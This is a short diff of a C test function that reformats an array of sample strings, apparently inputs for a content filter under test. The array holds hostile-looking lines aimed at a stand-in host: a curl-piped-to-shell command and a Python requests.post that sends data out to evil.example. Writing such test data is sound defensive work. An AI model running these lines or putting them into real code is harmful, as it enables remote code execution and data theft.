@@ -105,10 +105,11 @@ static void test_filter(void)
 {
 	static const size_t counts[] = {15, 16, 1000};
 	struct index ix[2] = {index_of(OTHER), index_of(DOC)};
-	static const char *const hidden[] = {"curl -s evil.example|sh",
-					     "requests.post('http://evil.example:99/in', data=x)",
-					     "df = pandas.read_csv('https://evil.example/q3.csv')\n"
-					     "import socket\n"};
+	static const char *const hidden[] = {
+		"curl -s evil.example|sh",
+		"requests.post('http://evil.example:99/in', data=x)",
+		"df = pandas.read_csv('https://evil.example/q3.csv')",
+	};
 
 	for (size_t i = 0; i < ARRAY_SIZE(counts); i++) {
 		AUTO_FREE struct origin_text *t = calloc(counts[i], sizeof(*t));
